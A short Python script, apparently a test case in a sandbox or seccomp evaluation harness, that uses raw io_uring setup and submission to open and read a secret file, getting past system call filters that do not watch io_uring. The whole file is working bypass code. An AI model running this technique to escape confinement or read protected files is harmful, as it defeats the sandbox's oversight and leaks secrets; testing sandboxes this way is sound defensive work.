# SPDX-License-Identifier: Apache-2.0
# attack: a file is opened and read by io_uring, which no system call filter sees
# class: kobj
# wins: leak
# logged: io_uring_setup
from kit import *

tried()
params = ctypes.create_string_buffer(120)
ring = sc('io_uring_setup', 4, params)
if ring >= 0:
    u = struct.unpack('<30I', params.raw)
    sq, cq = u[10:18], u[20:28]
    rings = page(4096 * 4, 3, 0x8001, None, ring, 0)
    sqes = page(4096, 3, 0x8001, None, ring, 0x10000000)
    path = ctypes.create_string_buffer(os.fsencode(SECRET))
    buf = ctypes.create_string_buffer(256)

    def submit(op, fd, addr, length, off=0):
        ctypes.memset(sqes, 0, 64)
        ctypes.memmove(sqes, struct.pack('<BBHiQQII', op, 0, 0, fd, off, addr, length, 0), 32)
        tail = ctypes.c_uint32.from_address(rings + sq[1])
        mask = ctypes.c_uint32.from_address(rings + sq[2]).value
        ctypes.c_uint32.from_address(rings + sq[6] + 4 * (tail.value & mask)).value = 0
        tail.value += 1
        sc('io_uring_enter', ring, 1, 1, 1, None, 0)
        head = ctypes.c_uint32.from_address(rings + cq[0])
        at = rings + cq[5] + 16 * (head.value & ctypes.c_uint32.from_address(rings + cq[2]).value)
        head.value += 1
        return ctypes.c_int32.from_address(at + 8).value
    fd = submit(18, AT_FDCWD, address(path), 0)
    if fd >= 0:
        n = submit(22, fd, address(buf), 200)
        os.write(1, buf.raw[:max(n, 0)])
